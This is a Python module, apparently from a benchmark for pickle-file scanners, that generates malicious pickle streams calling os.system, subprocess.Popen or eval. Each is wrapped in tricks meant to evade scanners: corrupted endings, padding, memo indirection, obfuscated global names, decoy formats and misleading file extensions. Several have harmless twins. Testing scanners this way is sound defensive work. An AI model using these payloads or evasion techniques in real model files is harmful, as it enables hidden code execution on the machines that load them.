"""
Pickle streams that scanners read differently from unpicklers.

Each function below writes one trick around a payload; called with a harmless one it writes the
twin, where the trick alone is no anomaly.
"""

import pickle
from collections.abc import Callable, Iterator
from struct import pack
from typing import Final

from benchmarks.scan.assemble import Build, Call, Items, Node, Ref, encode, stream
from benchmarks.scan.samples import MARKER_NAME, PYTHON, SHELL, Sample, single

GROUP: Final = "pickle: streams"

_SYSTEM: Final = b"cos\nsystem\n"
_SHELL: Final = b"X" + pack("<I", len(SHELL)) + SHELL.encode()
_PAYLOAD: Final = _SYSTEM + _SHELL + b"\x85R"
"""Leaves one value: what `os.system` returns."""

_HARMLESS: Final = b"ccollections\nOrderedDict\n)R"
_DATA: Final = pickle.dumps({"weights": [1.0, 2.0], "name": "model"}, 2)
_STREAM: Final = b"\x80\x02" + _PAYLOAD + b"."

Trick = Callable[[bytes], bytes]


def _u(text: str) -> bytes:
    data = text.encode("utf-8", "surrogatepass")
    return b"X" + pack("<I", len(data)) + data


def _breaks() -> Iterator[tuple[str, Trick, tuple[str, ...]]]:
    """Yield streams that end in an error after the payload has run."""
    ends = {
        "no-stop": b"", "bad-opcode": b"\xff.", "zero-opcode": b"\0.", "truncated-string": b"X\xff\0\0\0abc",
        "truncated-binunicode8": b"\x8d" + b"\xff" * 8, "bad-frame": b"\x95" + pack("<Q", 1 << 40) + b".",
        "negative-frame": b"\x95" + b"\xff" * 8 + b".", "bad-proto": b"\x80\xff.", "bad-int": b"Iabc\n.",
        "bad-get": b"h\xfe.", "missing-class": b"cweighbridge_missing\nName\n.", "missing-name": b"cos\nmissing_name\n.",
        "empty-stack": b"000.", "bad-utf8": b"X\x02\0\0\0\xc3\x28.", "bad-reduce": b"NR.", "pop-mark": b"1.",
        "two-values": b"N" * 5 + b".", "tuple-underflow": b"\x87\x87\x87\x87.", "bad-long": b"\x8a\x08ab",
        "bad-unicode": b"V\\u00\n.", "bad-string": b"Sabc\n.", "persid": b"Pabc\n.", "binpersid": b"Q.", "ext": b"\x82\x01.",
        "setitem-on-int": b"K\x01K\x02s.", "build-on-none": b"NNb.", "appends-no-mark": b"e.", "memo-range": b"r\xff\xff\xff\xffN.",
        "next-buffer": b"\x97.",
    }  # fmt: skip
    for label, end in ends.items():
        references = ("nullifAI",) if label in {"bad-opcode", "truncated-string"} else ()
        yield f"broken-{label}", (lambda p, end=end: b"\x80\x02" + p + b"0N" + end), references  # type: ignore[misc]
        yield f"broken-top-{label}", (lambda p, end=end: b"\x80\x02" + p + end), references  # type: ignore[misc]


def _shapes() -> Iterator[tuple[str, Trick, tuple[str, ...]]]:
    """Yield streams that do not begin or go on like a pickler's."""
    yield "no-proto", lambda p: p + b".", ()
    yield "proto-0", lambda p: b"\x80\0" + p + b".", ()
    yield "proto-late", lambda p: b"N0\x80\x02" + p + b".", ()
    yield "proto-many", lambda p: b"\x80\x02" * 50 + p + b".", ()
    yield "proto-5-then-0", lambda p: b"\x80\x05\x80\x00" + p + b".", ()
    yield "proto-after-mark", lambda p: b"(\x80\x02" + p + b"l.", ()
    yield "none-first", lambda p: b"N0" + p + b".", ()
    yield "int-first", lambda p: b"I1\n0" + p + b".", ()
    yield "mark-first", lambda p: b"(" + p + b"t.", ()
    yield "marks-many", lambda p: b"(" * 500 + p + b"t" * 500 + b".", ()
    yield "list-first", lambda p: b"](" + p + b"e.", ()
    yield "dict-first", lambda p: b"}(" + _u("a") + p + b"u.", ()
    yield "dict-key", lambda p: b"}(" + p + b"Nu.", ()
    yield "popped", lambda p: b"\x80\x02" + p + b"0" + _DATA[2:], ()
    yield "popped-mark", lambda p: b"\x80\x02(" + p + b"1" + _DATA[2:], ()
    yield "pop-as-mark", lambda p: b"\x80\x02" + p + b"(00" + _DATA[2:], ()
    yield "text-header", lambda p: b"S'model weights'\n0" + p + b".", ()
    yield "comment-like", lambda p: b"V# coding: utf-8\n0" + p + b".", ()
    yield "json-like", lambda p: b'(V{"a": 1}\n0' + p + b"l.", ()
    yield "frame-zero", lambda p: b"\x80\x04\x95" + pack("<Q", 0) + p + b".", ()
    yield "frame-short", lambda p: b"\x80\x04\x95" + pack("<Q", 3) + b"NN0" + p + b".", ()
    yield "frame-long", lambda p: b"\x80\x04\x95" + pack("<Q", len(p) + 1000) + p + b".", ()
    yield "frame-many", lambda p: b"\x80\x04" + (b"\x95" + pack("<Q", 0)) * 50 + p + b".", ()
    yield (
        "frame-in-frame",
        lambda p: (
            b"\x80\x04\x95"
            + pack("<Q", 9 + len(p) + 1)
            + b"\x95"
            + pack("<Q", len(p) + 1)
            + p
            + b"."
        ),
        (),
    )
    yield "frame-crossed", lambda p: b"\x80\x04\x95" + pack("<Q", 2) + p + b".", ()
    yield "frame-protocol-0", lambda p: b"\x95" + pack("<Q", len(p) + 1) + p + b".", ()
    yield "padding-nop", lambda p: b"\x80\x02" + b"N0" * 300_000 + p + b".", ()
    yield (
        "padding-string",
        lambda p: b"\x80\x02" + b"X" + pack("<I", 3 << 20) + b"a" * (3 << 20) + b"0" + p + b".",
        (),
    )
    yield (
        "padding-behind",
        lambda p: b"\x80\x02" + p + b"0" + b"X" + pack("<I", 3 << 20) + b"a" * (3 << 20) + b".",
        (),
    )
    yield (
        "padding-bytes-8",
        lambda p: b"\x80\x04" + b"\x8e" + pack("<Q", 1 << 20) + b"\0" * (1 << 20) + b"0" + p + b".",
        (),
    )
    yield "padding-ints", lambda p: b"\x80\x02(" + b"K\x01" * 500_000 + b"l0" + p + b".", ()
    yield "decoy-zip", lambda p: b"\x80\x02" + p + b".PK\x05\x06" + b"\0" * 18, ()
    yield "decoy-before", lambda p: b"\x80\x02C\x04PK\x03\x040" + p + b".", ()
    yield "deep-list", lambda p: b"\x80\x02" + b"](" * 3000 + p + b"e" * 3000 + b".", ()
    yield "deep-tuple", lambda p: b"\x80\x02" + p + b"\x85" * 5000 + b".", ()
    yield "dup-bomb-before", lambda p: b"\x80\x02]" + b"2\x86" * 60 + b"0" + p + b".", ()
    yield "dup-bomb-behind", lambda p: b"\x80\x02" + p + b"]" + b"2\x86" * 60 + b"\x86.", ()
    yield "laughs-before", lambda p: b"\x80\x02" + _laughs(26) + b"0" + p + b".", ()
    yield "laughs-behind", lambda p: b"\x80\x02" + p + _laughs(26) + b"\x86.", ()


def _laughs(depth: int) -> bytes:
    """Return a list that holds two of a list that holds two ..."""
    body = b"]q\0"
    for number in range(1, depth):
        body += (
            b"0](h" + bytes([number - 1]) * 1 + b"h" + bytes([number - 1]) + b"eq" + bytes([number])
        )
    return body


def _several() -> Iterator[tuple[str, Trick, tuple[str, ...]]]:
    """Yield files in which the payload is not in the first stream."""
    yield "second-stream", lambda p: _DATA + b"\x80\x02" + p + b".", ()
    yield "second-no-proto", lambda p: _DATA + p + b".", ()
    yield "tenth-stream", lambda p: _DATA * 9 + b"\x80\x02" + p + b".", ()
    yield (
        "memo-carried",
        lambda p: b"\x80\x02" + p[:-1].replace(b"cos\nsystem\n", b"cos\nsystem\nq\0") + b"0N.",
        (),
    )


def _names() -> Iterator[tuple[str, bytes, bytes | None, tuple[str, ...]]]:
    """Yield STACK_GLOBAL operands that are hard to follow: trick, attack, twin."""

    def around(module: bytes, name: bytes, *, tail: bytes = b"") -> bytes:
        return b"\x80\x04" + module + name + b"\x93" + _SHELL + b"\x85R" + tail + b"."

    def benign(module: bytes, name: bytes) -> bytes:
        return b"\x80\x04" + module + name + b"\x93)R."

    o, s = _u("os"), _u("system")
    c, d = _u("collections"), _u("OrderedDict")
    yield "name-plain", around(o, s), benign(c, d), ()
    yield (
        "name-memo",
        b"\x80\x04" + s + b"q\x050" + around(o, b"h\x05")[2:],
        b"\x80\x04" + d + b"q\x050" + benign(c, b"h\x05")[2:],
        (),
    )
    yield (
        "name-memo-of-memo",
        b"\x80\x04" + s + b"q\x05q\x060h\x06q\x070" + around(o, b"h\x07")[2:],
        None,
        (),
    )
    yield (
        "name-decoy-memo",
        b"\x80\x04" + _u("getcwd") + b"q\x050" + s + b"q\x050" + around(o, b"h\x05")[2:],
        None,
        (),
    )
    yield (
        "name-decoy-memoize",
        b"\x80\x04" + s + b"q\x01" + b"\x940" + _u("x") + b"q\x000" + around(o, b"h\x01")[2:],
        None,
        ("picklescan 22",),
    )
    yield (
        "name-memoize-index",
        b"\x80\x04"
        + _u("a")
        + b"q\x000"
        + _u("b")
        + b"q\x000"
        + s
        + b"\x940"
        + around(o, b"h\x01")[2:],
        None,
        (),
    )
    yield "name-dup", b"\x80\x04" + s + b"2q\x0000" + around(o, b"h\0")[2:], None, ()
    yield "name-pop", around(o + b"N0", s + b"N0"), benign(c + b"N0", d + b"N0"), ()
    yield "name-pop-mark", around(o + b"(NN1", s), benign(c + b"(NN1", d), ()
    yield "name-put-after-pop", b"\x80\x04" + s + b"N0q\x030" + around(o, b"h\x03")[2:], None, ()
    yield (
        "name-long-memo",
        b"\x80\x04" + s + b"r\x00\x01\0\00" + around(o, b"j\x00\x01\0\0")[2:],
        None,
        (),
    )
    yield "name-text-memo", b"\x80\x04" + s + b"p77\n0" + around(o, b"g77\n")[2:], None, ()
    yield "name-text-memo-space", b"\x80\x04" + s + b"p 77\n0" + around(o, b"g+77\n")[2:], None, ()
    yield (
        "name-unicode",
        around(b"Vos\n", b"V\\u0073ystem\n"),
        benign(b"Vcollections\n", b"V\\u004frderedDict\n"),
        (),
    )
    yield (
        "name-string",
        around(b"S'os'\n", b"S'sys\\x74em'\n"),
        benign(b"S'collections'\n", b"S'OrderedDic\\x74'\n"),
        (),
    )
    yield "name-string-double", around(b'S"os"\n', b'S"system"  \n'), None, ()
    yield (
        "name-binstring",
        around(b"T\x02\0\0\0os", b"U\x06system"),
        benign(b"U\x0bcollections", b"U\x0bOrderedDict"),
        (),
    )
    yield (
        "name-binunicode8",
        around(b"\x8d" + pack("<Q", 2) + b"os", b"\x8d" + pack("<Q", 6) + b"system"),
        None,
        (),
    )
    yield (
        "name-short",
        around(b"\x8c\x02os", b"\x8c\x06system"),
        benign(b"\x8c\x0bcollections", b"\x8c\x0bOrderedDict"),
        (),
    )
    yield "name-in-list", around(b"](" + o + b"e0" + o, s), None, ()
    yield (
        "name-computed-encode",
        around(o, b"c_codecs\ndecode\nC\x06systemX\x06\0\0\0latin1\x86R"),
        None,
        (),
    )
    yield (
        "name-computed-join",
        around(o, b"cbuiltins\nstr.join\n" + _u("") + b"(" + _u("sys") + _u("tem") + b"l\x86R"),
        None,
        (),
    )
    yield (
        "name-computed-str",
        around(o, b"cbuiltins\nstr\nC\x06system" + _u("latin1") + b"\x86R"),
        None,
        (),
    )
    yield (
        "name-computed-module",
        around(b"cbuiltins\nstr\nC\x02os" + _u("latin1") + b"\x86R", s),
        None,
        (),
    )
    yield (
        "name-computed-encode-latin",
        around(
            o,
            b"cbuiltins\nstr\n"
            b"c_codecs\nencode\n" + s + _u("latin1") + b"\x86R" + _u("latin1") + b"\x86R",
        ),
        None,
        (),
    )
    yield (
        "name-replaced",
        around(o, b"cbuiltins\nstr.replace\n" + _u("syxtem") + _u("x") + _u("s") + b"\x87R"),
        None,
        (),
    )
    yield (
        "name-format",
        around(o, b"cbuiltins\nstr.format\n" + _u("{}tem") + _u("sys") + b"\x86R"),
        None,
        (),
    )
    yield "name-constant", around(o, b"cstring\nascii_lowercase\n"), None, ()
    yield "name-numpy-str", around(o, b"cnumpy\nstr_\n" + s + b"\x85R"), None, ()
    yield (
        "name-str-subclass",
        around(
            o, b"ccollections\nUserString.__str__\nccollections\nUserString\n" + s + b"\x85R\x85R"
        ),
        None,
        (),
    )
    yield "name-surrogate", around(o, b"V\\ud800\n0" + s), None, ()
    yield "name-dotted", around(_u("random"), _u("_os.system")), None, ()
    yield "name-dotted-torch", around(_u("torch.serialization"), _u("os.system")), None, ()
    yield "name-dotted-sys", around(_u("collections"), _u("_sys.modules.get")), None, ()
    yield "name-double-dot", around(_u("logging"), _u("os.path.os.system")), None, ()
    yield (
        "name-python2",
        b"c__builtin__\neval\n" + _u(PYTHON) + b"\x85R.",
        b"c__builtin__\nset\n]\x85R.",
        (),
    )
    yield "name-python2-module", b"\x80\x02ccommands\ngetoutput\n" + _SHELL + b"\x85R.", None, ()
    yield "name-python2-exceptions", b"\x80\x02cUserDict\nUserDict\n)R0" + _PAYLOAD + b".", None, ()
    yield (
        "name-copy_reg",
        b"\x80\x02ccopy_reg\n_reconstructor\ncio\nFileIO\nc__builtin__\nobject\nN\x87R0"
        + _PAYLOAD
        + b".",
        None,
        (),
    )
    yield "name-carriage-return", b"\x80\x02cos\nsystem\n" + _SHELL + b"\x85R.", None, ()
    yield "name-utf8-module", b"\x80\x02cos\nsystem\n0c\xc3\xa9\nx\n.", None, ()
    yield "name-spaces", b"\x80\x02cos \nsystem\n0" + _PAYLOAD + b".", None, ()


def _calls() -> Iterator[tuple[str, bytes, bytes | None, tuple[str, ...]]]:
    """Yield every opcode that calls, and changes that call by the way."""
    command: tuple[Node, ...] = (SHELL,)
    for how in ("reduce", "obj", "inst", "newobj", "newobj-ex"):
        for protocol in (0, 2, 4):
            args: tuple[Node, ...] = command
            target = Ref("os", "system")
            twin = Call(Ref("collections", "OrderedDict"), (), how)
            if how.startswith("newobj"):
                target, args = Ref("numpy", "memmap"), (MARKER_NAME, "uint8", "w+", 0, (1,))
            yield (
                f"call-{how}-{protocol}",
                stream(Call(target, args, how), protocol=protocol),
                stream(twin, protocol=protocol),
                (),
            )
    popen: Node = Call(Ref("subprocess", "Popen"), (["sh", "-c", SHELL],), "obj")
    yield "call-obj-popen", stream(popen), None, ()
    yield "call-obj-popped", b"\x80\x04" + encode(popen) + b"0N.", None, ("GHSA-mxhj-88fx-4pcv",)
    yield "call-inst-popen", b"(" + encode(["sh", "-c", SHELL]) + b"isubprocess\nPopen\n.", None, ()
    yield "call-reduce-list", b"\x80\x02" + _SYSTEM + b"]" + _SHELL + b"aR.", None, ()
    yield (
        "call-reduce-string-args",
        b"\x80\x02cbuiltins\nprint\nX\x01\0\0\0aR0" + _PAYLOAD + b".",
        None,
        (),
    )
    empty = Call(Ref("builtins", "dict"))
    yield (
        "build-setstate",
        stream(Build(Call(Ref("bdb", "Bdb")), Items(empty, (("reset", Ref("os", "system")),)))),
        None,
        (),
    )
    yield (
        "build-slots",
        stream(
            Build(
                Call(Ref("collections", "OrderedDict")),
                (None, Items(empty, (("__class__", Ref("io", "FileIO")),))),
            )
        ),
        None,
        (),
    )
    yield (
        "build-class",
        stream(
            (
                Build(
                    Ref("collections", "Counter"),
                    (None, Items(empty, (("__setstate__", Ref("os", "system")),))),
                ),
                Build(Call(Ref("collections", "Counter")), SHELL),
            )
        ),
        None,
        (),
    )
    yield (
        "build-class-missing",
        stream(
            (
                Build(
                    Ref("collections", "Counter"),
                    (None, Items(empty, (("__missing__", Ref("os", "system")),))),
                ),
            )
        ),
        None,
        (),
    )
    yield (
        "build-class-setitem",
        stream(
            (
                Build(
                    Ref("collections", "UserDict"),
                    (None, Items(empty, (("__setitem__", Ref("os", "execlp")),))),
                ),
            )
        ),
        None,
        (),
    )
    yield (
        "build-class-append",
        stream(
            (
                Build(
                    Ref("collections", "UserList"),
                    (
                        None,
                        Items(
                            empty,
                            (("extend", Ref("os", "system")), ("append", Ref("os", "system"))),
                        ),
                    ),
                ),
            )
        ),
        None,
        (),
    )
    yield (
        "build-function",
        stream(Build(Ref("os.path", "join"), (None, Items(empty, (("__code__", None),))))),
        None,
        (),
    )
    yield (
        "build-setstate-function",
        stream(
            Build(
                Call(Ref("functools", "partial"), (Ref("builtins", "print"),)),
                (Ref("os", "system"), (SHELL,), empty, empty),
            )
        ),
        None,
        (),
    )
    yield (
        "build-partial-called",
        stream(
            Call(
                Build(
                    Call(Ref("functools", "partial"), (Ref("builtins", "print"),)),
                    (Ref("os", "system"), (SHELL,), empty, empty),
                )
            )
        ),
        None,
        (),
    )
    yield (
        "setitem-module-dict",
        stream((Items(Ref("builtins", "__dict__"), (("weighbridge_x", 1),)),)),
        None,
        (),
    )
    yield (
        "setitem-environ",
        stream(Items(Ref("os", "environ"), (("WEIGHBRIDGE_X", "x"),))),
        None,
        (),
    )
    yield "append-to-list", b"\x80\x02csys\npath\n(" + _u("weighbridge-missing") + b"e.", None, ()
    yield "append-sys-meta", b"\x80\x02csys\nmeta_path\nNa.", None, ()
    yield "additems-object", b"\x80\x04csys\nflags\n(Nu\x90.", None, ()
    yield (
        "defaultdict-factory",
        stream(Call(Ref("collections", "defaultdict"), (Ref("os", "getcwd"),))),
        None,
        (),
    )
    yield "ext1", b"\x80\x02\x82\x01" + _SHELL + b"\x85R.", None, ()
    yield "ext2", b"\x80\x02\x83\x01\x01" + _SHELL + b"\x85R.", None, ()
    yield "ext4", b"\x80\x02\x84\x01\x01\0\0" + _SHELL + b"\x85R.", None, ()
    yield (
        "ext-registered",
        stream((Call(Ref("copyreg", "add_extension"), ("os", "system", 240)),))[:-1]
        + b"0\x82\xf0"
        + _SHELL
        + b"\x85R.",
        None,
        (),
    )
    yield "persid", b"Pmodule.name\n.", None, ()
    yield "binpersid", b"\x80\x02" + _SHELL + b"Q.", None, ()
    yield "buffer", b"\x80\x05\x97\x98.", None, ()


def _literals() -> Iterator[tuple[str, bytes, bytes | None, tuple[str, ...]]]:
    """Yield literals that CPython parses and `pickletools` does not, and the other way round."""
    for label, literal in {
        "hex-int": b"I0x10\n", "octal-int": b"I010\n", "binary-int": b"I0b11\n", "underscore-int": b"I1_0\n", "space-int": b"I 1 \n",
        "plus-int": b"I+1\n", "nul-int": b"I1\0x\n", "hex-long": b"L0x10L\n", "binary-long": b"L0b11L\n", "bare-long": b"L5\n",
        "long-LL": b"L5l\n", "bool-00": b"I00\n", "bool-001": b"I001\n", "float-nan": b"Fnan\n", "float-inf": b"F-inf\n",
        "float-hex": b"F0x1p3\n", "float-underscore": b"F1_0.5\n", "float-space": b"F 1.5 \n", "float-nul": b"F1\0\n", "string-bytes": b"S'\\xff\\xfe'\n",
        "string-raw-bytes": b"S'\xff'\n", "binstring-bytes": b"U\x02\xff\xfe", "string-quote-in": b"S'a'b'\n", "string-no-quote-end": b'S"a\\"\n',
        "string-empty": b"S''\n", "unicode-surrogate": b"V\\ud83d\\ude00\n", "unicode-latin": b"V\xe9\n", "utf8-surrogate": b"X\x03\0\0\0\xed\xa0\x80",
        "long1-empty": b"\x8a\0", "long4": b"\x8b\x05\0\0\0\1\2\3\4\5", "long4-negative": b"\x8b\xff\xff\xff\xff", "get-hex": b"Np0x1\n",
        "get-space": b"Np 1 \ng1\n0", "get-underscore": b"Np1_0\ng10\n0", "put-big": b"Nr\xff\xff\xff\x0f", "put-negative": b"Np-1\n",
        "carriage-return-int": b"I1\r\n", "carriage-return-global": b"cos\r\nsystem\r\n", "frozenset": b"(K\x01\x91", "bytearray8": b"\x96\x01" + b"\0" * 7 + b"a",
    }.items():  # fmt: skip
        yield f"literal-{label}", b"\x80\x02" + literal + b"0" + _PAYLOAD + b".", None, ()
        yield f"literal-{label}-behind", b"\x80\x02" + _PAYLOAD + b"0" + literal + b".", None, ()


def _files() -> Iterator[Sample]:
    """Yield what is between, before and behind streams, and other formats around them."""
    loaders = ("pickle",)
    for label, data, twin in (
        ("trailing-junk", _STREAM + b"junk" * 100, None),
        ("trailing-zeros", _STREAM + b"\0" * 4096, _DATA + b"\0" * 4096),
        ("trailing-zip", _STREAM + _empty_zip(), None),
        ("trailing-elf", _STREAM + b"\x7fELF" + b"\0" * 60, None),
        ("trailing-python", _STREAM + b"\nimport os\n", None),
    ):
        yield single(f"file-{label}", GROUP, "model.pkl", data, loaders=loaders, twin=twin)
    for label, data in (
        ("junk-between", _DATA + b"junk junk" + _STREAM),
        ("zeros-between", _DATA + b"\0" * 512 + _STREAM),
        ("newline-between", _DATA + b"\n" + _STREAM),
        ("broken-first", b"\x80\x02cmissing\nname\n." + _STREAM),
    ):
        yield single(f"file-{label}", GROUP, "model.pkl", data)
    for label, data in (
        ("second", _DATA + _STREAM),
        ("second-no-proto", _DATA + _PAYLOAD + b"."),
        ("tenth", _DATA * 9 + _STREAM),
    ):
        yield single(
            f"file-again-{label}",
            GROUP,
            "model.pkl",
            data,
            loaders=("pickle:again",),
            twin=_DATA * 3,
        )
    carried = b"\x80\x02" + _SYSTEM + b"q\x000N." + b"\x80\x02h\0" + _SHELL + b"\x85R."
    yield single("file-memo-carried", GROUP, "model.pkl", carried, loaders=("pickle:reused",))
    words = (
        b"\x80\x02"
        + _u("os")
        + b"q\0"
        + _u("system")
        + b"q\x0100N.\x80\x04h\0h\x01\x93"
        + _SHELL
        + b"\x85R."
    )
    yield single("file-memo-carried-words", GROUP, "model.pkl", words, loaders=("pickle:reused",))
    for name in (
        "model.bin",
        "model",
        "model.txt",
        "model.json",
        "model.safetensors",
        "model.png",
        "config.yaml",
        "model.onnx",
        "model.h5",
        "README.md",
        "model.pt",
        "model.ckpt",
        "model.zip",
        "model.npy",
        "weights.dat",
        "model.gguf",
        ".hidden",
        "model.PKL",
        "model.pkl.bak",
        "data.pkl2",
        "model.joblib",
        "tokenizer.model",
        "LICENSE",
        "vocab.txt",
    ):
        yield single(
            f"suffix-{name.strip('.')}",
            GROUP,
            name,
            _STREAM,
            loaders=loaders,
            twin=None,
            references=("CVE-2025-10155", "GHSA-jgw4-cr84-mqxg"),
        )


def _empty_zip() -> bytes:
    return b"PK\x05\x06" + b"\0" * 18


def samples() -> Iterator[Sample]:
    """Yield every sample of the group."""
    plain = stream(("weights", 1, 2), protocol=2)
    for source in (_breaks, _shapes, _several):
        for label, trick, references in source():
            twin = trick(_HARMLESS) if source is _shapes and not _odd(label) else plain
            loaders = {
                "memo-carried": (),
                "second-stream": ("pickle:again",),
                "second-no-proto": ("pickle:again",),
                "tenth-stream": ("pickle:again",),
                "frame-crossed": ("pickle:bytes",),
            }.get(label, ("pickle",))
            yield single(
                f"stream-{label}",
                GROUP,
                "model.pkl",
                trick(_PAYLOAD),
                loaders=loaders,
                twin=twin,
                references=references,
            )
    quiet = {
        "ext1",
        "ext2",
        "ext4",
        "persid",
        "binpersid",
        "buffer",
        "build-setstate",
        "build-slots",
        "build-class",
        "build-class-missing",
        "build-class-setitem",
        "build-class-append",
        "build-function",
        "build-setstate-function",
        "setitem-module-dict",
        "append-to-list",
        "append-sys-meta",
        "additems-object",
        "defaultdict-factory",
        "name-computed-encode",
        "name-constant",
        "name-dotted-sys",
        "name-str-subclass",
        "name-put-after-pop",
        "name-spaces",
        "name-utf8-module",
        "name-surrogate",
        "name-string-double",
        "build-partial-called",
        "ext-registered",
        "call-reduce-list",
        "name-copy_reg",
        "name-replaced",
        "call-reduce-string-args",
        "name-python2-module",
        "setitem-environ",
    }
    for source2 in (_names, _calls):
        for label, data, twin2, references in source2():
            yield single(
                f"stream-{label}",
                GROUP,
                "model.pkl",
                data,
                loaders=() if label in quiet else ("pickle",),
                twin=twin2,
                references=references,
            )
    for label, data, twin2, references in _literals():
        yield single(
            f"stream-{label}",
            GROUP,
            "model.pkl",
            data,
            loaders=("pickle",),
            twin=twin2,
            references=references,
        )
        yield single(
            f"stream-{label}-python",
            GROUP,
            "model.pkl",
            data,
            loaders=("pickle:python",),
            twin=twin2,
            references=references,
        )
    yield from _files()


def _odd(label: str) -> bool:
    """Tell whether the trick alone is something no pickler writes."""
    return label.startswith(
        (
            "proto-",
            "frame-",
            "decoy",
            "comment",
            "text",
            "json",
            "none",
            "int",
            "mark",
            "pop-",
            "deep",
            "dup",
            "laughs",
            "padding",
        )
    )
